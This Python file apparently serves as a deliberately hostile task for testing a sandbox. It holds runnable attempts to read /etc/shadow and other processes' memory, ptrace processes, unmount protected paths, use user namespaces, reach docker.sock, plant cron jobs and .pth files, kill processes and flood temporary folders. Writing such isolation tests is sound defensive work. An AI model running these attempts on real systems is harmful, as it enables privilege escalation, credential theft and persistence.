"""A task that means harm. Its text is the source of a task: nothing here is imported by a test.

Each attack answers in words what it got hold of, or raises. `hints` is what an insider might know: paths and
process numbers of the product and of another team's task.
"""

# ruff: noqa: S103
import ctypes
import glob
import os
import resource
import signal
import socket
import stat
import subprocess
import sys
from pathlib import Path

LIBC = ctypes.CDLL(None, use_errno=True)
CLONE_NEWNS, CLONE_NEWUSER = 0x00020000, 0x10000000
PTRACE_ATTACH, MNT_DETACH = 16, 2


def system(result):
    """The result of a system call, or its error."""
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def read(path):
    with open(path, "rb") as file:
        return f"read {len(file.read(64))} bytes of {path}"


def look(path):
    found = os.listdir(path)
    if not found:
        raise OSError(f"{path} seems empty")
    return f"saw {found[:3]} in {path}"


def write(path):
    with open(path, "ab") as file:
        file.write(b"#")
    return f"wrote {path}"


def reach(path):
    """Any way into a path of the product: its content, or its names."""
    return look(path) if os.path.isdir(path) else read(path)


def connect(path):
    with socket.socket(socket.AF_UNIX) as end:
        end.connect(path)
    return f"connected to {path}"


def trace(pid):
    system(LIBC.ptrace(PTRACE_ATTACH, pid, 0, 0))
    return f"traced {pid}"


def end(pid, number):
    os.kill(pid, number)
    return f"sent {number} to {pid}"


def own_processes():
    """Every process that can be seen: the zygote, this task and what it has started."""
    return [int(name) for name in os.listdir("/proc") if name.isdigit()]


def see_others(marks):
    """Words of others, in whatever /proc shows of any process."""
    for pid in own_processes():
        for name in ("environ", "cmdline", "maps"):
            try:
                text = Path(f"/proc/{pid}/{name}").read_bytes()
            except OSError:
                continue
            for mark in marks:
                if mark.encode() in text:
                    return f"{mark!r} stands in /proc/{pid}/{name}"
    raise OSError("none of them")


def memory_of(pid):
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
        memory.seek(int(maps.readline().split("-")[0], 16))
        return f"{len(memory.read(16))} bytes of the memory of {pid}"


def become_root():
    os.setuid(0)
    return f"is {os.getuid()}"


def run_as_root():
    """Every program on the machine that would run as root."""
    found = [
        path
        for folder in ("/bin", "/usr/bin", "/usr/sbin", "/usr/lib")
        for path in glob.glob(f"{folder}/*")
        if os.path.isfile(path) and os.stat(path).st_mode & (stat.S_ISUID | stat.S_ISGID)
    ]
    assert found, "this machine has no such program: nothing was tried"
    status = Path("/proc/self/status").read_text()
    assert "NoNewPrivs:\t1" in status, f"{found} would be obeyed"
    raise OSError("none of them would be obeyed")


def own_namespace(then):
    """Root in a user namespace of its own, which is what an unprivileged user can make itself."""
    pid = os.fork()
    if pid == 0:
        try:
            system(LIBC.unshare(CLONE_NEWUSER | CLONE_NEWNS))
            Path("/proc/self/setgroups").write_text("deny")
            Path("/proc/self/uid_map").write_text(f"0 {os.getuid()} 1")
            then()
            os._exit(0)
        except OSError:
            os._exit(1)
    if os.waitpid(pid, 0)[1]:
        raise OSError("refused")
    return "did as root of a namespace of its own"


def uncover(path):
    system(LIBC.umount2(path.encode(), MNT_DETACH))


def unmounted(path):
    uncover(path)
    return f"took the cover from {path}"


def link_and_read(path, work):
    name = os.path.join(work, "second-name")
    os.link(path, name)
    return read(name)


def make_device(work):
    name = os.path.join(work, "device")
    os.mknod(name, 0o600 | stat.S_IFBLK, os.stat("/dev/vda").st_rdev if os.path.exists("/dev/vda") else 1)
    return read(name)


def dump_core():
    resource.setrlimit(resource.RLIMIT_CORE, (1 << 20, 1 << 20))
    return "may write its memory to a file"


def more_processes():
    most = resource.getrlimit(resource.RLIMIT_NPROC)[1]
    resource.setrlimit(resource.RLIMIT_NPROC, (most + 1, most + 1))
    return "may have any number of processes"


def leave_job():
    done = subprocess.run(["crontab", "-"], input=b"* * * * * true\n", capture_output=True, check=True)
    return f"left a job for later: {done}"


def all_attacks(hints):
    """Name -> what to call. Every one must raise."""
    work, worker, victim = os.getcwd(), hints["worker"], hints["victim"]
    attacks = {f"reach {path}": (lambda path=path: reach(path)) for path in hints["closed"]}
    attacks |= {f"write {path}": (lambda path=path: write(path)) for path in hints["unchangeable"]}
    attacks |= {f"connect {path}": (lambda path=path: connect(path)) for path in hints["sockets"]}
    attacks |= {f"link {path}": (lambda path=path: link_and_read(path, work)) for path in hints["closed"]}
    for name, pid in (("worker", worker), ("victim", victim), ("zygote", 1)):
        attacks |= {
            f"{name}: memory": lambda pid=pid: memory_of(pid),
            f"{name}: environment": lambda pid=pid: read(f"/proc/{pid}/environ"),
            f"{name}: files": lambda pid=pid: look(f"/proc/{pid}/fd"),
            f"{name}: folder": lambda pid=pid: look(f"/proc/{pid}/root/root"),
            f"{name}: trace": lambda pid=pid: trace(pid),
        }
    attacks |= {f"end {pid}": (lambda pid=pid: end(pid, signal.SIGKILL)) for pid in (worker, victim)}
    attacks |= {
        "see others": lambda: see_others(hints["marks"]),
        "shadow": lambda: read("/etc/shadow"),
        "shadow by a second name": lambda: link_and_read("/etc/shadow", work),
        "become root": become_root,
        "programs that run as root": run_as_root,
        "uncover root's home": lambda: unmounted("/root"),
        "mount": lambda: system(LIBC.mount(b"none", work.encode(), b"tmpfs", 0, None)),
        "uncover in an own namespace": lambda: own_namespace(lambda: uncover("/root")),
        "uncover the home in an own namespace": lambda: own_namespace(lambda: uncover(hints["home"])),
        "shadow in an own namespace": lambda: own_namespace(lambda: read("/etc/shadow")),
        "device": lambda: make_device(work),
        "memory of the kernel": lambda: read("/proc/kcore"),
        "settings of the kernel": lambda: write("/proc/sys/kernel/core_pattern"),
        "control groups": lambda: os.mkdir("/sys/fs/cgroup/hostile"),
        "docker": lambda: connect("/var/run/docker.sock"),
        "core dump": dump_core,
        "more processes": more_processes,
        "job for later": leave_job,
        "job for later in a file": lambda: write("/etc/cron.d/hostile"),
        "change an input": lambda: os.chmod(hints["input"], 0o777),
        "write an input": lambda: write(hints["input"]),
        "add an input": lambda: write(os.path.join(os.path.dirname(hints["input"]), "more")),
        "write beside its folder": lambda: write(os.path.join(os.path.dirname(work), "more")),
        "write its environment": lambda: write(os.path.join(sys.prefix, "lib", "hostile.pth")),
        "write its interpreter": lambda: write(os.path.realpath(sys.executable)),
    }
    return attacks


def leave_daemon(mark):
    """A process that has left its session and ignores every plea."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execvp("sh", ["sh", "-c", f": {mark}; trap '' TERM HUP INT; while :; do sleep 1; done"])
        os._exit(0)


def leave_all_kinds_of_things(mark):
    # The zygote is process 1 of the namespace, where signals from inside reach only what has a handler.
    for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
        os.kill(1, number)
    leave_daemon(mark)
    for folder in ("/dev/shm", "/tmp", "/var/tmp"):
        Path(folder, mark).write_bytes(b"x" * (8 << 20))


def attack(hints: dict, own: Path) -> dict:
    """{"succeeded": {name: what it got}, "tried": how many, "processes": [what it sees]}"""
    hints["input"] = os.path.realpath(own)
    attacks = {name: act for name, act in all_attacks(hints).items() if name.startswith(hints["only"])}
    succeeded = {}
    for name, act in attacks.items():
        try:
            got = act()
        except (OSError, ValueError, subprocess.CalledProcessError):
            continue
        succeeded[name] = str(got)
    if not hints["only"]:
        leave_all_kinds_of_things(hints["mark"])
    return {"succeeded": succeeded, "tried": len(attacks), "processes": own_processes()}
